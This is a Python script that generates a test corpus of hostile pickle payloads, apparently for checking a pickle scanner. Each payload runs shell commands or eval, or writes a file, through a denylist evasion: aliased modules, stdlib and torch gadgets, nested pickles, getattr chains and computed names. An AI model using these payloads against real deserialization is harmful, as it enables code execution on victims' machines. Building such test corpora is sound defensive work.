"""The project's own corpus of hostile pickles, made at test time: each would create the file MARKER_DIR/<name>
if it ran (a process started, code evaluated, a file written), by way of one of the evasions a denylist
misses. Categories: direct calls, aliased modules, dunder suffixes, standard-library gadgets, file writers,
pickles nested in bytes, calls of values made while unpickling, extension codes, computed names.

Usage: python3 hostile_pickles.py MARKER_DIR > corpus.json
Prints {name: {"category": ..., "pickle": base64, "fires": true|false}}; "fires" says that a plain
pickle.loads in this Python creates the marker (a live payload), which a test checks, so that the corpus
cannot rot into harmless bytes; the few that do not fire are refused for what they would try.
"""
import base64
import json
import os
import pickle
import struct
import sys

MARKER_DIR = sys.argv[1]


def s(text):
    """SHORT_BINUNICODE or BINUNICODE."""
    data = text.encode("utf-8")
    return (b"\x8c" + bytes([len(data)]) if len(data) < 256 else b"X" + struct.pack("<I", len(data))) + data


def b(data):
    return b"C" + bytes([len(data)]) + data if len(data) < 256 else b"B" + struct.pack("<I", len(data)) + data


def stack_global(module, name):
    return s(module) + s(name) + b"\x93"


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(callable_, *args):
    """callable_(*args) as REDUCE; args are already-encoded values."""
    return callable_ + b"(" + b"".join(args) + b"tR"


def p4(body):
    return b"\x80\x04" + body + b"."


def p2(body):
    return b"\x80\x02" + body + b"."


def marker(name):
    return os.path.join(MARKER_DIR, name)


def touch(name):
    return "touch " + marker(name)


def code(name):
    return "__import__('os').system(%r)" % touch(name)


corpus = {}
getattr_ = stack_global("builtins", "getattr")


def add(name, category, data, fires=True):
    corpus[name] = {"category": category, "pickle": data, "fires": fires}


# Direct: what every scanner knows.
add("os-system", "direct", p2(call(glob("posix" if os.name == "posix" else "nt", "system"), s(touch("os-system")))))
add("builtins-eval", "direct", p2(call(glob("__builtin__", "eval"), s(code("builtins-eval")))))
add("inst-opcode", "direct", b"(S'" + touch("inst-opcode").encode() + b"'\nios\nsystem\n.")
add("subprocess-popen", "direct", p4(call(stack_global("subprocess", "Popen"), b"(" + s("touch") + s(marker("subprocess-popen")) + b"l")))

# Aliased modules: a module's private name for another module.
add("threading-os-alias", "aliased module", p4(call(stack_global("threading", "_os.system"), s(touch("threading-os-alias")))))
add("random-os-alias", "aliased module", p4(call(stack_global("random", "_os.system"), s(touch("random-os-alias")))))
add("enum-builtins-alias", "aliased module", p4(call(stack_global("enum", "bltns.eval"), s(code("enum-builtins-alias")))))
add("tarfile-open-alias", "aliased module", p4(call(stack_global("tarfile", "bltn_open"), s(marker("tarfile-open-alias")), s("w"))))

# Dunder suffixes.
add("eval-call-dunder", "dunder suffix", p4(call(stack_global("builtins", "eval.__call__"), s(code("eval-call-dunder")))))

# Standard-library gadgets that reach code or processes through innocent-looking names.
add("typing-forwardref-evaluate", "stdlib gadget", p4(call(
    stack_global("typing", "ForwardRef._evaluate"),
    call(stack_global("typing", "ForwardRef"), s(code("typing-forwardref-evaluate"))),
    b"}", b"}", call(stack_global("builtins", "frozenset"), b"]"),
)))
add("logging-config-resolve", "stdlib gadget", p4(
    call(call(stack_global("logging.config", "_resolve"), s("os.system")), s(touch("logging-config-resolve")))
))
add("uuid-command-stdout", "stdlib gadget", p4(call(stack_global("uuid", "_get_command_stdout"), s("touch"), s(marker("uuid-command-stdout")))))
add("osx-support-read-output", "stdlib gadget", p4(call(stack_global("_osx_support", "_read_output"), s(touch("osx-support-read-output")))))
add("dataclasses-create-fn", "stdlib gadget", p4(call(
    call(stack_global("dataclasses", "_create_fn"), s("f"), b")", b"(" + s(code("dataclasses-create-fn")) + b"l"),
)))
add("torch-collect-env-run", "stdlib gadget", p4(call(stack_global("torch.utils.collect_env", "run"), s(touch("torch-collect-env-run")))))
add("torch-benchmark-timer", "stdlib gadget", p4(call(
    call(getattr_, call(stack_global("torch.utils.benchmark", "Timer"), s(code("torch-benchmark-timer"))), s("timeit")),
    b"K\x01",
)))
add("subinterpreter-run-string", "stdlib gadget", p4(call(
    stack_global("_xxsubinterpreters", "run_string"), call(stack_global("_xxsubinterpreters", "create")), s(code("subinterpreter-run-string")),
)))

# File writers.
add("logging-file-handler", "file writer", p4(call(stack_global("logging", "FileHandler"), s(marker("logging-file-handler")))))
add("pathlib-touch", "file writer", p4(call(
    call(getattr_, call(stack_global("pathlib", "PosixPath"), s(marker("pathlib-touch"))), s("touch")),
)))
add("gzip-open", "file writer", p4(call(stack_global("gzip", "open"), s(marker("gzip-open")), s("wb"))))
add("copyreg-reconstructor", "file writer", p4(call(
    stack_global("copyreg", "_reconstructor"), stack_global("logging", "FileHandler"), stack_global("logging", "FileHandler"), s(marker("copyreg-reconstructor")),
)))

# Pickles nested in bytes, unpickled by a gadget.
inner = p2(call(glob("posix", "system"), s(touch("nested-pickle-loads"))))
add("nested-pickle-loads", "nested pickle", p4(call(stack_global("pickle", "loads"), b(inner))))
inner = p2(call(glob("posix", "system"), s(touch("nested-underscore-pickle"))))
add("nested-underscore-pickle", "nested pickle", p4(call(stack_global("_pickle", "loads"), b(inner))))

# Calls of values made while unpickling: allowed globals, then a call of what getattr fetched.
add("getattr-module-system", "computed call", p4(call(
    call(getattr_, call(getattr_, stack_global("torch", "serialization"), s("os")), s("system")), s(touch("getattr-module-system")),
)))
add("getattr-private-attribute", "computed call", p4(call(getattr_, call(stack_global("collections", "OrderedDict")), s("__class__"))), fires=False)
add("type-makes-class", "computed call", p4(call(stack_global("builtins", "type"), s("X"), b")", b"}")), fires=False)

# Extension codes and computed names: known only to the loading process.
copyreg_ext = b"\x80\x02\x82\x07" + b"(" + s(touch("extension-code")) + b"tR."
add("extension-code", "extension code", copyreg_ext, fires=False)
add("computed-global-name", "computed name", p4(
    call(stack_global("builtins", "str"), s("posix")) + call(stack_global("builtins", "str"), s("system")) + b"\x93" + b"(" + s(touch("computed-global-name")) + b"tR"
))

result = {}
for name, item in corpus.items():
    os.makedirs(MARKER_DIR, exist_ok=True)
    result[name] = {"category": item["category"], "pickle": base64.b64encode(item["pickle"]).decode("ascii"), "fires": item["fires"]}
print(json.dumps(result))
